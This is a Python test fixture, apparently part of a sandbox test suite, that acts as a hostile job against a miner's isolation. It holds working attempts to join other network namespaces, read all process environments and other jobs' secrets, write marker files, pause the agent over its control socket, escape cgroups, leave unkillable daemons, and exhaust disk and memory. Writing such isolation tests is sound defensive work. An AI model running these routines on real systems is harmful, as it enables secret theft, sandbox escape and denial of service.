"""A hostile job: everything a stranger's code would try against the miner that runs it.

Runs as a trusted Python function (``hostile:attack``, the payload is its input) and as an
allowlisted command (``python -I hostile.py '<json payload>'``). Standard library only.
It reports what it managed in its output, but the tests never trust that report: each
attempt is judged by its side effects (files on the host, connections a server saw, what
the agent and the other job still hold, processes left behind).

Payload: ``{"attack": NAME, ...}`` with the paths and addresses the attack aims at.
"""

from __future__ import annotations

import ctypes
import glob
import json
import os
import signal
import socket
import sys
import time
from typing import Any

CLONE_NEWNET = 0x40000000


def _read(path: str, limit: int = 1 << 16) -> str | None:
    try:
        with open(path, "rb") as fh:
            return fh.read(limit).decode("latin-1")
    except OSError:
        return None


def net(p: dict[str, Any]) -> dict[str, Any]:
    """Join every network namespace it can name, then call the coordinator from each."""
    libc = ctypes.CDLL(None, use_errno=True)
    joined = []
    for path in glob.glob("/proc/[0-9]*/ns/net") + glob.glob("/proc/[0-9]*/task/*/ns/net"):
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, CLONE_NEWNET) == 0:
            joined.append(path)
        os.close(fd)
    reached = []
    for host, port in p["targets"]:
        try:
            with socket.create_connection((host, int(port)), timeout=2) as sock:
                sock.sendall(b"the job got out\n")
                reached.append(f"{host}:{port}")
        except OSError:
            pass
    return {"joined": joined, "reached": reached}


def read(p: dict[str, Any]) -> dict[str, Any]:
    """Every environment it can see, and the agent's and the other job's files."""
    found = {path: _read(path) for path in glob.glob("/proc/*/environ")}
    for path in p["paths"]:
        found[path] = _read(path)
        for child in glob.glob(os.path.join(path, "**"), recursive=True)[:200]:
            found[child] = _read(child)
    for pid in p.get("pids", []):
        for path in glob.glob(f"/proc/{pid}/root/run/secrets/*") + [f"/proc/{pid}/environ"]:
            found[path] = _read(path)
    return {"read": {k: v for k, v in found.items() if v}}


def write(p: dict[str, Any]) -> dict[str, Any]:
    """Drop a marker file everywhere it should not be able to."""
    wrote = []
    for folder in p["folders"]:
        target = os.path.join(folder, p["marker"])
        try:
            with open(target, "w") as fh:
                fh.write("pwned\n")
            wrote.append(target)
        except OSError:
            pass
    return {"wrote": wrote}


def control(p: dict[str, Any]) -> dict[str, Any]:
    """Ask the agent's control socket to pause the miner."""
    answers = []
    for path in p["sockets"]:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.settimeout(2)
                sock.connect(path)
                sock.sendall(b"POST /pause HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n")
                answers.append(sock.recv(200).decode("latin-1"))
        except OSError as exc:
            answers.append(type(exc).__name__)
    return {"answers": answers}


def cgroup(p: dict[str, Any]) -> dict[str, Any]:
    """Move itself (and a sleeper that outlives it) out of its cgroup, into every group."""
    sleeper = os.fork()
    if sleeper == 0:
        os.setsid()
        time.sleep(600)
        os._exit(0)
    moved = []
    for procs in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:500]:
        for pid in (os.getpid(), sleeper):
            try:
                with open(procs, "w") as fh:
                    fh.write(str(pid))
                moved.append(procs)
            except OSError:
                pass
    return {"moved": moved[:20], "sleeper": sleeper}


def daemon(p: dict[str, Any]) -> dict[str, Any]:
    """The classic double fork: a daemon that ignores every polite signal."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                signal.signal(sig, signal.SIG_IGN)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
    return {"daemon": "left behind"}


def fill(p: dict[str, Any]) -> dict[str, Any]:
    """Write until the disk says no, in its workspace and in /tmp."""
    written = 0
    chunk = b"x" * (1 << 20)
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "filler"), "wb") as fh:
                for _ in range(int(p.get("mib", 4096))):
                    fh.write(chunk)
                    written += len(chunk)
        except OSError:
            pass
    raise SystemExit(f"filled {written >> 20} MiB, then the disk was full")


def memory(p: dict[str, Any]) -> dict[str, Any]:
    """Several processes, each under the cap, together well over it."""
    children = []
    for _ in range(int(p.get("processes", 4))):
        pid = os.fork()
        if pid == 0:
            hold = bytearray(int(p.get("mib_each", 100)) << 20)
            for i in range(0, len(hold), 4096):
                hold[i] = 1  # resident, not just reserved
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    return {"held": "all of it"}


def victim(p: dict[str, Any]) -> dict[str, Any]:
    """The other job: holds a secret and a file, waits (SIGUSR1), then checks both."""
    secret_path = os.path.join(os.environ.get("AITBC_SECRETS_DIR", "/nonexistent"), p["secret"])
    with open(secret_path, "rb") as fh:
        secret = fh.read()
    with open("victim-marker", "w") as fh:
        fh.write(p["marker"])
    released: list[int] = []
    signal.signal(signal.SIGUSR1, lambda *_: released.append(1))
    print("ready", flush=True)
    while not released:
        signal.pause()
    with open(secret_path, "rb") as fh:
        secret_now = fh.read()
    with open("victim-marker") as fh:
        marker_now = fh.read()
    strangers = sorted(set(os.listdir(".")) - {"victim-marker", "out", "tmp"})
    return {"secret_intact": secret_now == secret, "marker_intact": marker_now == p["marker"],
            "strangers": strangers}


ATTACKS = {"net": net, "read": read, "write": write, "control": control, "cgroup": cgroup,
           "daemon": daemon, "fill": fill, "memory": memory, "victim": victim}


def attack(payload: dict[str, Any]) -> dict[str, Any]:
    """The trusted-function entry point."""
    return ATTACKS[payload["attack"]](payload)


if __name__ == "__main__":
    print(json.dumps(attack(json.loads(sys.argv[1]))), flush=True)
